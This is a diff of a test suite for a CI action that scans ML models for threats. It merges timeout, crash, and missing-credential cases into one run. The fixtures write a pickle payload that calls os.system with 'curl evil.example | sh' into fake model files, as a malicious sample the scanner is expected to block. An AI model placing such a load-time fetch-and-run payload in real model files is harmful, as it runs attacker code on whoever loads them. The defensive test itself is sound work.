@@ -23,12 +23,18 @@ import {
  * driver, which scans the workspace's model directory and creates the scan with its `scan_details`; the action
  * then polls, collects and reports that scan like a Hugging Face one, and removes its private directory. A
  * "public" index offering the placeholder is configured in every way pip listens to, and must never be asked.
- * Each step installs afresh: nothing an earlier step left in RUNNER_TEMP is used. Every run is checked for
+ * Each step installs afresh: nothing an earlier step left in RUNNER_TEMP is used. So every run costs an install
+ * (pip, some 2 CPU seconds), and models that go different ways share a run where their checks are independent:
+ * Hugging Face, local and object-storage models, with a scanner that hangs and clients that crash, raise, die
+ * after creating their scan or lack credentials, are judged in one run, one model each. Every run is checked for
  * secrets in all it printed and wrote as it ends, so each test stands on its own, in any order.
  */
 
 const VERSION = '1.1.2'
 const CLEAN_HF = 'https://huggingface.co/airs-sim/clean-model'
+/** object-storage models, in the stand-in's simulated buckets */
+const S3 = 's3://ml-artifacts/release/classifier'
+const GS = 'gs://ml-models/imported/resnet'
 
 let sim: Simulator
 let pub: PackageIndex
@@ -58,8 +64,11 @@ beforeAll(async () => {
   // protocol-0 pickle text of a __reduce__ that calls os.system, as torch.load would run it
   await write('models/evil/pytorch_model.bin', "cposix\nsystem\n(S'curl evil.example | sh'\ntR.")
   await write('models/evil/config.json', '{}')
+  // the same, for a client that dies right after creating its scan (see the failure modes below)
+  await write('models/evil-late/pytorch_model.bin', "cposix\nsystem\n(S'curl evil.example | sh'\ntR.")
+  await write('models/evil-late/config.json', '{}')
   // clean models the stand-in fails on by name (see the failure modes below)
-  for (const name of ['crashing', 'raising'])
+  for (const name of ['crashing', 'raising', 'hanging'])
     await write(`models/${name}/model.safetensors`, Buffer.alloc(64, 3))
   // the "buckets" the stand-in client downloads object-storage models from
   const bucket = async (rel: string, content: string | Buffer) => {
@@ -86,6 +95,12 @@ afterAll(async () => {
 })
 
 const recordFile = () => path.join(root, 'record.json')
+/** what a job that logged in to AWS and Google Cloud has in its environment */
+const cloudCredentials = () => ({
+  AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE',
+  AWS_SECRET_ACCESS_KEY: 'aws-secret-example',
+  GOOGLE_APPLICATION_CREDENTIALS: path.join(root, 'gcp.json')
+})
 
 /**
  * No credential or index URL in what a run printed or wrote: its log, outputs, summary, report and SARIF. Each run
@@ -188,23 +203,56 @@ describe('a local model directory, end to end', () => {
     expect(await leftBehind()).toEqual([])
   }, 180_000)
 
-  it('Hugging Face and local models in one run: each scanned its own way, one verdict; the blocked file anchored', async () => {
+  // One run for models that each go their own way, as one install serves them all (CONTRIBUTING.md): Hugging
+  // Face and local models side by side; a scanner that hangs; clients that crash, raise, or die after creating
+  // their scan; and object storage without one provider's credentials. The timeout is each model's own (the
+  // install and the wait for a turn do not count), long enough for the others, which take a second or two.
+  it('Hugging Face, local and object-storage models in one run, with a scanner that hangs and clients that crash, raise, die after their scan or lack credentials: each judged on its own, one verdict', async () => {
     const before = indexUrlsIssued()
-    const r = await gate({ 'model-uri': `${CLEAN_HF}\nmodels/clean\nmodels/evil` })
+    const { AWS_ACCESS_KEY_ID: _, ...noAws } = cloudCredentials()
+    const inputs = [
+      'models/hanging',
+      CLEAN_HF,
+      'models/clean',
+      'models/evil',
+      'models/crashing',
+      'models/raising',
+      'models/evil-late',
+      S3,
+      GS
+    ]
+    const r = await gate({ 'model-uri': inputs.join('\n'), timeout: '15s' }, noAws, 120_000, {
+      hanging: 'hang',
+      crashing: 'crash',
+      raising: 'raise',
+      'evil-late': 'crash-after-post'
+    })
     expect(r.code).toBe(1)
     // nothing of an earlier step is reused: this step installs the client again
     expect(indexUrlsIssued()).toBe(before + 1)
     expect(r.stdout).toContain('scanner: installing')
+    expect(r.report!.models.map((m) => m.model.input)).toEqual(inputs)
+    const [hanging, hf, clean, evil, crashing, raising, late, s3, gs] = r.report!.models
+
+    // a scanner that outlives the timeout is stopped, and that model fails with TIMEOUT (the `error` output
+    // names the first model that failed: this one)
+    expect(hanging).toMatchObject({ status: 'error', error: { code: 'TIMEOUT' } })
+    expect(hanging!.error!.message).toContain('The scanner on the runner did not finish within')
+    expect(hanging!.scan).toBeUndefined()
+    expect(r.outputs.error).toBe('TIMEOUT')
+
+    // Hugging Face and local models, each scanned its own way
     expect(
-      r.report!.models.map((m) => [m.model.source_type, m.scan?.scan_origin, m.scan?.eval_outcome])
+      [hf, clean, evil].map((m) => [m!.model.source_type, m!.scan?.scan_origin, m!.scan?.eval_outcome])
     ).toEqual([
       ['HUGGING_FACE', expect.anything(), 'ALLOWED'],
       ['LOCAL', 'MODEL_SECURITY_SDK', 'ALLOWED'],
       ['LOCAL', 'MODEL_SECURITY_SDK', 'BLOCKED']
     ])
+    // one verdict
     expect(r.outputs).toMatchObject({ verdict: 'fail', 'eval-outcome': 'BLOCKED' })
-    // a pickle that runs a command at load time
-    expect(r.report!.models[2]!.violations.items).toEqual(
+    // the blocked file anchored: a pickle that runs a command at load time
+    expect(evil!.violations.items).toEqual(
       expect.arrayContaining([expect.objectContaining({ file: 'pytorch_model.bin', threat: 'PAIT-PKL-100' })])
     )
     // annotations point at the model file in the repository, and SARIF does too
@@ -215,16 +263,7 @@ describe('a local model directory, end to end', () => {
     expect(JSON.stringify(r.sarif)).toContain('"uri":"models/evil/pytorch_model.bin"')
     expect(r.summary).toContain('Model gate failed')
     expect(pub.requests).toEqual([])
-  }, 120_000)
 
-  it('a scanner that crashes, a client that raises, one that dies after creating its scan: each judged on its own', async () => {
-    const r = await gate({ 'model-uri': 'models/crashing\nmodels/raising\nmodels/evil' }, {}, 120_000, {
-      crashing: 'crash',
-      raising: 'raise',
-      evil: 'crash-after-post'
-    })
-    expect({ exit: r.code, verdict: r.outputs.verdict }).toEqual({ exit: 1, verdict: 'fail' })
-    const [crashing, raising, evil] = r.report!.models
     // a crash: the tail of its output, redacted; an exception: its type and message; no scan left unjudged
     expect(crashing).toMatchObject({ status: 'error', error: { code: 'SCANNER_FAILED' } })
     expect(crashing!.error!.message).toContain(
@@ -237,13 +276,22 @@ describe('a local model directory, end to end', () => {
     )
     expect([crashing!.scan, raising!.scan]).toEqual([undefined, undefined])
     // the scan a client made before it died is found and judged
-    expect(evil).toMatchObject({ status: 'blocked', scan: { eval_outcome: 'BLOCKED' } })
-    expect(evil!.error).toBeUndefined()
+    expect(late).toMatchObject({ status: 'blocked', scan: { eval_outcome: 'BLOCKED' } })
+    expect(late!.error).toBeUndefined()
     expect(r.stdout).toMatch(
       /::warning::The scanner on the runner failed after creating scan [0-9a-f-]{36}; judging that scan/
     )
     expect(errorLines(r).length).toBeGreaterThan(0)
-  }, 120_000)
+
+    // missing cloud credentials: that model fails with the client's own words, the other is judged
+    expect([s3, gs].map((m) => [m!.status, m!.error?.code])).toEqual([
+      ['error', 'SCANNER_FAILED'],
+      ['blocked', undefined]
+    ])
+    expect(s3!.error!.message).toBe(
+      'The model security client failed to scan the model (PermissionError: NoCredentialsError: Unable to locate credentials (AWS_ACCESS_KEY_ID is not set))'
+    )
+  }, 180_000)
 })
 
 describe('the CLI', () => {
@@ -267,16 +315,8 @@ describe('the CLI', () => {
 })
 
 describe('object storage', () => {
-  const S3 = 's3://ml-artifacts/release/classifier'
-  const GS = 'gs://ml-models/imported/resnet'
-  const cloud = () => ({
-    AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE',
-    AWS_SECRET_ACCESS_KEY: 'aws-secret-example',
-    GOOGLE_APPLICATION_CREDENTIALS: path.join(root, 'gcp.json')
-  })
-
   it('S3 and GCS: the extras for both, the cloud credentials reach the client, downloads stay in the job and go', async () => {
-    const r = await gate({ 'model-uri': `${S3}\n${GS}` }, cloud())
+    const r = await gate({ 'model-uri': `${S3}\n${GS}` }, cloudCredentials())
     expect(r.code).toBe(1)
     expect(r.stdout).toContain(
       'scanner: installing model-security-client[aws,gcp]==1.1.2 from the private package index'
@@ -315,19 +355,6 @@ describe('object storage', () => {
     )
     expect(await leftBehind()).toEqual([])
   }, 180_000)
-
-  it('missing cloud credentials: that model fails with the client’s own words, the others are judged', async () => {
-    const { AWS_ACCESS_KEY_ID: _, ...noAws } = cloud()
-    const r = await gate({ 'model-uri': `${S3}\n${GS}` }, noAws)
-    expect(r.code).toBe(1)
-    expect(r.report!.models.map((m) => [m.status, m.error?.code])).toEqual([
-      ['error', 'SCANNER_FAILED'],
-      ['blocked', undefined]
-    ])
-    expect(r.report!.models[0]!.error!.message).toBe(
-      'The model security client failed to scan the model (PermissionError: NoCredentialsError: Unable to locate credentials (AWS_ACCESS_KEY_ID is not set))'
-    )
-  }, 120_000)
 })
 
 describe('each failure says what went wrong, and fails the step', () => {
@@ -408,10 +435,7 @@ describe('each failure says what went wrong, and fails the step', () => {
     }
   }, 180_000)
 
-  it('a scanner that outlives the timeout is stopped', async () => {
-    const r = await gate({ 'model-uri': 'models/clean', timeout: '3s' }, {}, 60_000, 'hang')
-    expectFailed(r, 'TIMEOUT', 'The scanner on the runner did not finish within')
-  }, 60_000)
+  // a scanner that outlives the timeout: in the run of many models above, one install for all of them
 
   it.each([
     ['does not exist', 'models/missing', 'does not exist'],
